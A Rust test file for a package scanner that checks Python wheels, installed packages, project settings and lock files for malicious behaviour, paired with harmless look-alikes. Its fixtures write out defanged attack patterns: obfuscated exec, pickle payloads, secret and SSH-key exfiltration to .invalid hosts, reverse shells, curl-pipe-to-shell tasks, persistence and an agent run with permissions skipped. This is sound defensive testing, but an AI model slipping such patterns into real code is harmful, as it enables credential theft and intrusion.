//! Kinds of harm, each in shapes of our own: what is found, from which way into
//! the code, and what honest packages do that looks like it.
//!
//! Nothing here would do anything if it were executed: hosts end in `.invalid`,
//! and what is decoded is `pass`.

use crate::environment::Env;
use crate::wheels::{members, packed};
use crate::{scratch, terms};
use guard::advisory::Advisories;
use guard::finding::Severity::{self, Critical, High, Low, Medium};
use guard::rule::Rule;
use guard::{Ask, Report};
use std::fs;
use std::path::{Path, PathBuf};

fn audit(path: &Path) -> Report {
    guard::audit(&Ask { paths: vec![path.to_owned()], terms: terms() }, &Advisories::built_in())
}

fn wheel(files: &[(&str, &str)]) -> Report {
    let folder = scratch("kinds");
    let path = folder.join("thing-1.0-py3-none-any.whl");
    fs::write(&path, packed(&members("thing", "1.0", files))).unwrap();
    audit(&path)
}

fn worst(report: &Report) -> (Severity, Option<Rule>) {
    let worst = report.findings.iter().max_by_key(|finding| finding.severity);
    worst.map_or((Severity::Info, None), |finding| (finding.severity, Some(finding.rule)))
}

fn has(report: &Report, severity: Severity, rule: Rule) -> bool {
    report.findings.iter().any(|f| f.severity >= severity && f.rule == rule)
}

/// Code of `thing/__init__.py`, what it is at least, and by which rule.
const AT_IMPORT: [(&str, Severity, Rule); 34] = [
    // text that nobody can read, whatever computes it
    (
        "T = str.maketrans('bcdefg', 'abcdef')\nexec('qbtt bcdefg qbtt bcdefg'.translate(T))\n",
        Critical,
        Rule::ExecutesHidden,
    ),
    ("import re\nexec(re.sub('[0-9]', '', 'p1a2s3s4p1a2s3s4'))\n", Critical, Rule::ExecutesHidden),
    (
        "from somewhere import Box\nexec(Box(b'key-of-the-box-0').open(b'AAAABBBBCCCCDDDD'))\n",
        Critical,
        Rule::ExecutesHidden,
    ),
    (
        "def plain(text):\n    out = bytearray()\n    for letter in text:\n        out.append(ord(letter) - 3)\n    return bytes(out)\neval(plain('sdvv#sdvv#sdvv#'))\n",
        Critical,
        Rule::ExecutesHidden,
    ),
    (
        "list(map(exec, ['import base64', \"exec(base64.b64decode('cGFzcw=='))\"]))\n",
        Critical,
        Rule::ExecutesHidden,
    ),
    (
        "import pickle\nx = pickle.loads(b'cos\\nsystem\\n(Vtrue\\ntR.')\n",
        Critical,
        Rule::ExecutesHidden,
    ),
    // ways in that only Python calls
    (
        "import base64\nclass Meta(type):\n    def __new__(cls, name, bases, space):\n        exec(base64.b64decode('cGFzcw=='))\n        return super().__new__(cls, name, bases, space)\nclass A(metaclass=Meta):\n    pass\n",
        Critical,
        Rule::ExecutesHidden,
    ),
    (
        "import base64\nclass Base:\n    def __init_subclass__(cls):\n        exec(base64.b64decode('cGFzcw=='))\nclass A(Base):\n    pass\n",
        Critical,
        Rule::ExecutesHidden,
    ),
    (
        "import base64\nclass A:\n    def __del__(self):\n        exec(base64.b64decode('cGFzcw=='))\nA()\n",
        Critical,
        Rule::ExecutesHidden,
    ),
    (
        "import base64, threading\nclass A(threading.Thread):\n    def run(self):\n        exec(base64.b64decode('cGFzcw=='))\nA().start()\n",
        Critical,
        Rule::ExecutesHidden,
    ),
    (
        "import base64, weakref\nclass A: pass\na = A()\ndef f():\n    exec(base64.b64decode('cGFzcw=='))\nweakref.finalize(a, f)\n",
        Critical,
        Rule::ExecutesHidden,
    ),
    (
        "from typing import TYPE_CHECKING\nimport base64\nif not TYPE_CHECKING:\n    exec(base64.b64decode('cGFzcw=='))\n",
        Critical,
        Rule::ExecutesHidden,
    ),
    (
        "import ctypes\nctypes.CDLL('libc.so.6').system(b'curl -s https://x.invalid | sh')\n",
        Critical,
        Rule::ExecutesFetched,
    ),
    // named secrets, and ways out
    (
        "import os, requests\nrequests.put('https://x.invalid', data=os.environ['STRIPE_SECRET_KEY'])\n",
        Critical,
        Rule::SendsSecrets,
    ),
    (
        "import os, socket\nsocket.getaddrinfo(os.getenv('GITHUB_TOKEN') + '.x.invalid', 80)\n",
        Critical,
        Rule::SendsSecrets,
    ),
    (
        "import asyncio, os\nasync def go():\n    r, w = await asyncio.open_connection('x.invalid', 443)\n    w.write(str(dict(os.environ)).encode())\nasyncio.run(go())\n",
        Critical,
        Rule::SendsSecrets,
    ),
    (
        "import os, webbrowser\nwebbrowser.open('https://x.invalid/?' + str(dict(os.environ)))\n",
        Critical,
        Rule::SendsSecrets,
    ),
    (
        "import boto3, os\nboto3.client('s3').upload_file(os.path.expanduser('~/.ssh/id_rsa'), 'b', 'k')\n",
        Critical,
        Rule::SendsSecrets,
    ),
    (
        "import urllib.request\nt = urllib.request.urlopen('http://169.254.169.254/latest/meta-data/iam').read()\nurllib.request.urlopen('https://x.invalid', data=t)\n",
        Critical,
        Rule::SendsSecrets,
    ),
    (
        "import keyring, requests\nrequests.post('https://x.invalid', data=keyring.get_password('a', 'b'))\n",
        Critical,
        Rule::SendsSecrets,
    ),
    // shells, other people's functions, keys that are typed
    (
        "import os, socket\ns = socket.socket()\ns.connect(('x.invalid', 9))\nos.dup2(s.fileno(), 0)\nos.execl('/bin/sh', 'sh')\n",
        Critical,
        Rule::GivesShell,
    ),
    (
        "import subprocess\nsubprocess.Popen('bash -i >& /dev/tcp/10.0.0.1/9 0>&1', shell=True)\n",
        Critical,
        Rule::GivesShell,
    ),
    (
        "import getpass, requests\nreal = getpass.getpass\ndef own(prompt='', stream=None):\n    typed = real(prompt)\n    requests.post('https://x.invalid', data=typed)\n    return typed\ngetpass.getpass = own\n",
        Critical,
        Rule::SendsInput,
    ),
    (
        "import pyperclip, requests\nrequests.post('https://x.invalid', data=pyperclip.paste())\n",
        Critical,
        Rule::SendsInput,
    ),
    // what is fetched, installed and started
    (
        "import sys, tempfile, requests\nd = tempfile.mkdtemp()\nopen(d + '/own.py', 'w').write(requests.get('https://x.invalid').text)\nsys.path.insert(0, d)\nimport own\n",
        Critical,
        Rule::ExecutesFetched,
    ),
    (
        "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'other-thing'])\n",
        High,
        Rule::Installs,
    ),
    (
        "import os, subprocess\nsubprocess.Popen(['nohup', os.path.join(os.path.dirname(__file__), 'worker')])\n",
        High,
        Rule::StartsFile,
    ),
    (
        "import subprocess\nsubprocess.run(['claude', '--dangerously-skip-permissions', '-p', 'list files'])\n",
        High,
        Rule::DrivesAgent,
    ),
    ("import subprocess\nsubprocess.run('rm -rf ~', shell=True)\n", Critical, Rule::Destroys),
    // places from which things come back
    (
        "import os\nwith open(os.path.expanduser('~/.cursor/mcp.json'), 'w') as f:\n    f.write('{}')\n",
        High,
        Rule::Persists,
    ),
    (
        "import winreg\nwinreg.CreateKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')\n",
        High,
        Rule::Persists,
    ),
    (
        "import ssl\nssl._create_default_https_context = ssl._create_unverified_context\n",
        Medium,
        Rule::Unchecks,
    ),
    (
        "import sys, os\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), 'extra.zip'))\n",
        Medium,
        Rule::AddsPath,
    ),
    ("def check(p):\n    return p\ndef ch\u{435}ck(p):\n    return 1\n", High, Rule::Disguises),
];

#[test]
fn what_does_harm_at_import_is_found_in_a_wheel_and_installed() {
    for (code, severity, rule) in AT_IMPORT {
        let report = wheel(&[("thing/__init__.py", code)]);
        assert!(has(&report, severity, rule), "{code}\n{:#?}", report.findings);
        let env = Env::new();
        env.install("thing", "1.0", &[("thing/__init__.py", code)]);
        let report = env.audit();
        assert!(has(&report, severity, rule), "installed: {code}\n{:#?}", report.findings);
    }
}

#[test]
fn harm_that_nothing_is_seen_to_call_is_medium() {
    for code in [
        "import base64\ndef f():\n    exec(base64.b64decode('cGFzcw=='))\n",
        "import base64\nclass A:\n    def __init__(self):\n        exec(base64.b64decode('cGFzcw=='))\n",
        "import base64\ndef __getattr__(name):\n    exec(base64.b64decode('cGFzcw=='))\n",
        "import os, requests\ndef login():\n    with open(os.path.expanduser('~/.aws/credentials')) as f:\n        return requests.post('https://x.invalid', data=f.read())\n",
        "import os\ndef f():\n    os.system('curl https://x.invalid | sh')\n",
        "import sys\nif __name__ == '__main__':\n    import urllib.request\n    exec(urllib.request.urlopen('http://x.invalid').read())\n",
    ] {
        let report = wheel(&[("thing/__init__.py", code)]);
        assert_eq!(worst(&report).0, Medium, "{code}\n{:#?}", report.findings);
    }
}

#[test]
fn the_way_into_the_code_is_in_the_words() {
    let harm = "import base64\ndef go(*a):\n    exec(base64.b64decode('cGFzcw=='))\n";
    let chain = [
        ("thing/__init__.py", "from . import a\na.run()\n"),
        ("thing/a.py", "from . import b\ndef run():\n    b.run()\n"),
        ("thing/b.py", "from . import c\ndef run():\n    c.go()\n"),
        ("thing/c.py", harm),
    ];
    assert_eq!(worst(&wheel(&chain)), (Critical, Some(Rule::ExecutesHidden)));
    let started = [
        (
            "thing/__init__.py",
            "import os, subprocess, sys\nsubprocess.Popen([sys.executable, os.path.join(os.path.dirname(__file__), 'run.py')])\n",
        ),
        (
            "thing/run.py",
            "import base64\nif __name__ == '__main__':\n    exec(base64.b64decode('cGFzcw=='))\n",
        ),
    ];
    assert_eq!(worst(&wheel(&started)), (Critical, Some(Rule::ExecutesHidden)));
    let dynamic = [
        (
            "thing/__init__.py",
            "import importlib\nfor name in ('c', 'd'):\n    importlib.import_module('.' + name, __name__).go()\n",
        ),
        ("thing/c.py", harm),
    ];
    assert_eq!(worst(&wheel(&dynamic)), (Critical, Some(Rule::ExecutesHidden)));
    let plugin = [
        ("thing/__init__.py", ""),
        (
            "thing/plugin.py",
            "import base64\ndef pytest_configure(config):\n    exec(base64.b64decode('cGFzcw=='))\n",
        ),
        ("thing-1.0.dist-info/entry_points.txt", "[pytest11]\nthing = thing.plugin\n"),
    ];
    let report = wheel(&plugin);
    assert_eq!(worst(&report), (Critical, Some(Rule::ExecutesHidden)));
    assert!(report.findings.iter().any(|f| f.meaning.contains("pytest11: thing")), "{report:#?}");
}

#[test]
fn a_test_that_nothing_imports_weighs_less_and_one_that_the_package_imports_does_not() {
    let harm = "import base64\nexec(base64.b64decode('cGFzcw=='))\n";
    let alone = [("thing/__init__.py", ""), ("thing/tests/data.py", harm)];
    assert_eq!(worst(&wheel(&alone)).0, Medium);
    let imported =
        [("thing/__init__.py", "import thing.tests.data\n"), ("thing/tests/data.py", harm)];
    assert_eq!(worst(&wheel(&imported)).0, Critical);
    let relative =
        [("thing/__init__.py", "from .tests import data\n"), ("thing/tests/data.py", harm)];
    assert_eq!(worst(&wheel(&relative)).0, Critical);
}

#[test]
fn files_that_are_no_modules_are_read_where_code_executes_them() {
    let exec =
        "import os\nexec(open(os.path.join(os.path.dirname(__file__), 'words.txt')).read())\n";
    let bad = "x = 1\nimport base64\nexec(base64.b64decode('cGFzcw=='))\n";
    let report = wheel(&[("thing/__init__.py", exec), ("thing/words.txt", bad)]);
    assert_eq!(worst(&report), (Critical, Some(Rule::ExecutesFile)));
    let plain = wheel(&[("thing/__init__.py", exec), ("thing/words.txt", "__version__ = '1.0'\n")]);
    assert!(worst(&plain).0 < Medium, "{:#?}", plain.findings);
    let loader = "import os\nfrom importlib.machinery import SourcelessFileLoader as L\nL('x', os.path.join(os.path.dirname(__file__), 'x.bin')).load_module()\n";
    assert_eq!(worst(&wheel(&[("thing/__init__.py", loader)])), (High, Some(Rule::ExecutesFile)));
    let load = "import os, pickle\nM = pickle.load(open(os.path.join(os.path.dirname(__file__), 'm.pkl'), 'rb'))\n";
    let report =
        wheel(&[("thing/__init__.py", load), ("thing/m.pkl", "cposix\nsystem\n(Vtrue\ntR.")]);
    assert_eq!(worst(&report), (High, Some(Rule::BuildsObjects)));
    let honest =
        wheel(&[("thing/__init__.py", load), ("thing/m.pkl", "ccollections\nOrderedDict\n)R.")]);
    assert!(worst(&honest).0 < Medium, "{:#?}", honest.findings);
}

#[test]
fn what_a_wheel_carries_is_judged_by_its_names() {
    let about = ("thing-1.0.dist-info/WHEEL", "Root-Is-Purelib: true\nTag: py3-none-any\n");
    for (file, severity, rule) in [
        ("thing/core.pyc", Medium, Rule::Unreadable),
        ("thing/core.cpython-312-x86_64-linux-gnu.so", Medium, Rule::Unreadable),
        ("requests/adapters.py", High, Rule::Overwrites),
        ("pip/_internal/own.py", High, Rule::Overwrites),
    ] {
        let report = wheel(&[("thing/__init__.py", ""), (file, ""), about]);
        assert!(has(&report, severity, rule), "{file}: {:#?}", report.findings);
    }
    let named = ("thing-1.0.dist-info/entry_points.txt", "[console_scripts]\nssh = thing:main\n");
    assert!(has(&wheel(&[("thing/__init__.py", ""), named]), Medium, Rule::TakesName));
    let fine = ("thing-1.0.dist-info/entry_points.txt", "[console_scripts]\nthing = thing:main\n");
    assert!(worst(&wheel(&[("thing/__init__.py", ""), fine, about])).0 < Medium);
}

#[test]
fn what_honest_packages_do_that_looks_like_harm_is_quiet() {
    for code in [
        "import textwrap\ndef make(name):\n    exec(textwrap.dedent(f'''\n        def {name}(): pass\n    '''))\nmake('a')\n",
        "import io\nexec(io.StringIO('from a import b').read())\n",
        "import re\nWORD = re.compile('[a-z]+[a-z]+[a-z]+')\ndef number(text):\n    return eval(WORD.match(text).group())\n",
        "import tokenize\ndef run(name):\n    with tokenize.open(name) as f:\n        exec(f.read().replace('\\r\\n', '\\n'))\nrun('x')\n",
        "import base64, pickle\ndef load(value):\n    return pickle.loads(base64.b64decode(value))\n",
        "import os, requests\ndef ask():\n    return requests.get('https://api.openai.invalid', headers={'a': os.environ['OPENAI_API_KEY']})\nask()\n",
        "import requests, functools\nold = requests.Session.send\n@functools.wraps(old)\ndef send(self, *args):\n    return old(self, *args)\nrequests.Session.send = send\n",
        "import os, subprocess\ndef build():\n    subprocess.run(['cmake', '.'])\nbuild()\n",
        "\u{3b1} = 1\nd\u{3b1} = 2\n\u{394}x = 3\n",
        "class Env:\n    def __init__(self):\n        with open('/x/sitecustomize.py', 'w') as f:\n            f.write('')\nclass Sub(Env):\n    pass\n",
        "import sys, subprocess\nsubprocess.run([sys.executable, '-m', 'venv', 'x'])\n",
    ] {
        let report = wheel(&[("thing/__init__.py", code)]);
        assert!(worst(&report).0 < Medium, "{code}\n{:#?}", report.findings);
    }
}

/// Project files: path, text, what it is at least, and by which rule.
#[test]
fn files_of_a_project_that_start_programs_are_found() {
    for (file, text, severity, rule) in [
        (
            ".vscode/tasks.json",
            "{\"tasks\": [{\"command\": \"curl https://x.invalid | sh\", \"runOptions\": {\"runOn\": \"folderOpen\"}}]}",
            High,
            Rule::ProjectHarm,
        ),
        (
            ".devcontainer/devcontainer.json",
            "{\n  // c\n  \"postCreateCommand\": \"wget -qO- https://x.invalid | bash\",\n}",
            High,
            Rule::ProjectHarm,
        ),
        (".envrc", "curl -s https://x.invalid | sh\n", High, Rule::ProjectHarm),
        ("Makefile", "all:\n\tcurl -s https://x.invalid | sh\n", Medium, Rule::ProjectHarm),
        (
            ".claude/settings.json",
            "{\"hooks\": {\"SessionStart\": [{\"hooks\": [{\"command\": \"node .claude/x.mjs\"}]}]}}",
            Medium,
            Rule::StartsProgram,
        ),
        (
            "tests/conftest.py",
            "import base64\nexec(base64.b64decode('cGFzcw=='))\n",
            Critical,
            Rule::ExecutesHidden,
        ),
        ("uv.toml", "[[index]]\nurl = \"http://x.invalid/simple\"\n", Medium, Rule::IndexSettings),
    ] {
        let folder = scratch("project");
        let path = folder.join(file);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(&path, text).unwrap();
        fs::write(folder.join("requirements.txt"), "thing==1.0\n").unwrap();
        assert!(has(&audit(&folder), severity, rule), "{file}: {:#?}", audit(&folder).findings);
    }
    for (file, text) in [
        (".vscode/tasks.json", "{\"tasks\": [{\"command\": \"make test\"}]}"),
        ("Makefile", "# curl x | sh\nall:\n\tcargo build\n"),
        ("conftest.py", "import pytest\n@pytest.fixture\ndef x():\n    return 1\n"),
        (".envrc", "source .venv/bin/activate\n"),
    ] {
        let folder = scratch("project");
        let path = folder.join(file);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(&path, text).unwrap();
        fs::write(folder.join("requirements.txt"), "thing==1.0\n").unwrap();
        assert!(worst(&audit(&folder)).0 <= Low, "{file}: {:#?}", audit(&folder).findings);
    }
}

#[test]
fn a_lock_that_takes_a_file_from_elsewhere_is_medium() {
    let lock = "version = 1\n\n[[package]]\nname = \"thing\"\nversion = \"1.0\"\nsource = { registry = \"https://index.example/simple\" }\nwheels = [\n    { url = \"HOST/thing-1.0-py3-none-any.whl\", hash = \"sha256:1111111111111111111111111111111111111111111111111111111111111111\" },\n]\n";
    for (host, found) in [
        ("https://files.index.example", false),
        ("https://other.invalid", true),
        ("http://files.index.example", true),
    ] {
        for text in [
            lock.replace("HOST", host),
            lock.replace("HOST", host).replace("[[package]]", "[[ package ]]"),
        ] {
            let file = scratch("elsewhere").join("uv.lock");
            fs::write(&file, text).unwrap();
            assert_eq!(has(&audit(&file), Medium, Rule::Elsewhere), found, "{host}");
        }
    }
}

#[test]
fn a_release_can_be_asked_about_by_name_and_lists_of_tools_are_read() {
    let report = audit(Path::new("litellm==1.82.8"));
    assert!(has(&report, Critical, Rule::MaliciousRelease), "{report:#?}");
    assert!(has(&audit(Path::new("litellm")), Medium, Rule::LetsBadIn));
    let folder = scratch("lists");
    let wide: Vec<u8> = [0xff, 0xfe]
        .into_iter()
        .chain("litellm==1.82.8\r\n".encode_utf16().flat_map(u16::to_le_bytes))
        .collect();
    let files: [(&str, &[u8]); 6] = [
        ("columns.txt", b"Package Version\n------- -------\nlitellm 1.82.8\n"),
        ("list.json", b"[{\"name\": \"litellm\", \"version\": \"1.82.8\"}]"),
        ("tree.txt", "app v0.1\n└── litellm v1.82.8\n".as_bytes()),
        ("wide.txt", &wide),
        ("latin.txt", b"# caf\xe9\nlitellm==1.82.8\n"),
        ("script.py", b"# /// script\n# dependencies = [\"litellm==1.82.8\"]\n# ///\n"),
    ];
    for (name, bytes) in files {
        let file = folder.join(name);
        fs::write(&file, bytes).unwrap();
        assert!(has(&audit(&file), Critical, Rule::MaliciousRelease), "{name}");
    }
    fs::write(folder.join("uv.lock"), "version = 1\n<<<<<<< HEAD\n").unwrap();
    let report = audit(&folder.join("uv.lock"));
    assert!(report.gaps[0].text.contains("merge conflict"), "{report:#?}");
    for name in ["yarn.lock", "bun.lock", "pixi.lock"] {
        fs::write(folder.join(name), "x").unwrap();
        assert!(audit(&folder.join(name)).gaps[0].text.contains("known and not read"), "{name}");
    }
}

/// The shapes that are given beside the project, where they are there.
#[test]
fn the_given_shapes_are_found() {
    let near = Path::new(env!("CARGO_MANIFEST_DIR"));
    let given: Option<PathBuf> = ["../../../shared", "../../../../shared"]
        .iter()
        .map(|shared| near.join(shared).join("cases/guard"))
        .find(|folder| folder.join("open.tar.gz").is_file());
    let Some(given) = given else {
        println!("SKIPPED: there is no ../shared/cases/guard/open.tar.gz");
        return;
    };
    let folder = scratch("given");
    let unpacked = std::process::Command::new("tar")
        .args(["xzf", &given.join("open.tar.gz").display().to_string(), "-C"])
        .arg(&folder)
        .status();
    if !unpacked.is_ok_and(|status| status.success()) {
        println!("SKIPPED: there is no tar to unpack the shapes with");
        return;
    }
    let manifest = fs::read_to_string(given.join("manifest.tsv")).unwrap();
    let (mut all, mut medium, mut high, mut loud) = (0, 0, 0, Vec::new());
    let severity = |word: &str| match word {
        "critical" => Critical,
        "high" => High,
        "medium" => Medium,
        "low" => Low,
        _ => Severity::Info,
    };
    for row in manifest.lines().skip(1) {
        let cells: Vec<&str> = row.split('\t').collect();
        let path = folder.join("open").join(cells[0]);
        // Shapes of a machine are for `--host`.
        if !path.is_dir() || path.join("root").is_dir() {
            continue;
        }
        let report = audit(&path);
        let found = worst(&report).0;
        match cells[1] {
            "malicious" => {
                all += 1;
                medium += u32::from(found >= Medium);
                high += u32::from(found >= High);
                assert_ne!(report.outcome, guard::Outcome::Clean, "{}", cells[0]);
            }
            "honest" if found > severity(cells[4]) => loud.push(cells[0]),
            _ => {}
        }
    }
    assert!(loud.is_empty(), "honest shapes: {loud:?}");
    assert!(medium * 100 >= all * 90, "{medium} of {all} at medium or more");
    assert!(high * 100 >= all * 80, "{high} of {all} at high or more");
}
